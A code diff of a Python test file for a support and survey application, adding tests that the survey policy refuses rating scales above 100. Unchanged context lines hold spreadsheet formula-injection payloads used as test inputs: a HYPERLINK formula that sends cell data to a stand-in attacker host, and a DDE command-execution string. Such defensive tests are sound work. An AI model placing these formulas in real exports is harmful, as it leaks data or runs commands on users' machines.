@@ -21,7 +21,9 @@ import httpx
 import pytest
 from fastapi import FastAPI
 
+from auxilio.policy import PolicyInvalid, parse_policy
 from auxilio.policy.roles import Role
+from auxilio.protocol.survey import SurveyInvite
 from auxilio.server.errors import SurveyAlreadyAnswered
 from auxilio.server.identity.auth import actor_for
 from auxilio.server.reporting import charts, monthly, service
@@ -38,7 +40,7 @@ from auxilio.server.reporting.schemas import (
 from auxilio.server.surveys import service as surveys
 from auxilio.server.web.session import SESSION_COOKIE
 from tests.factories import Person, make_org, make_ticket, make_user
-from tests.server.surveys.helpers import Scene, make_scene
+from tests.server.surveys.helpers import Scene, make_scene, survey_policy
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0",
@@ -367,3 +369,28 @@ async def test_the_portal_and_the_link_answering_at_once_count_once(app: FastAPI
     assert results.count("survey.already_answered") == 1, results
     survey = await scene.only_survey()
     assert survey.state == "answered" and survey.score in results
+
+
+# -- the policy's survey scale ----------------------------------------------------------------
+
+
+@pytest.mark.parametrize("scale", ["1-101", "0-1000", "1-3000000000"])
+def test_a_survey_scale_the_agents_invite_cannot_carry_is_refused_by_the_policy(
+    scale: str,
+) -> None:
+    """Was accepted: the invite (protocol/survey.py) holds scales within 0-100, so a policy
+    scale of 1-101 made ``signed_invite`` raise as the session ended, before the agent's
+    report was sent; past 2**31 the survey row does not fit PostgreSQL's INTEGER, which failed
+    the end of the session itself. Fixed in policy/types.py: a scale ends at 100 at most."""
+    with pytest.raises(PolicyInvalid) as raised:
+        parse_policy(survey_policy(scale=scale))
+    assert [e.code for e in raised.value.errors] == ["policy.invalid_scale"]
+
+
+def test_the_widest_scale_the_policy_takes_fits_the_invite() -> None:
+    parsed = parse_policy(survey_policy(scale="0-100")).post_session.survey
+    assert parsed is not None
+    invite = SurveyInvite(support_session_id="ss-1", survey_id="sv-1", url="/survey/a.b",
+                          question="q", scale_min=parsed.scale[0], scale_max=parsed.scale[1],
+                          expires_at=datetime(2026, 12, 1, tzinfo=UTC))  # fmt: skip
+    assert (invite.scale_min, invite.scale_max) == (0, 100)
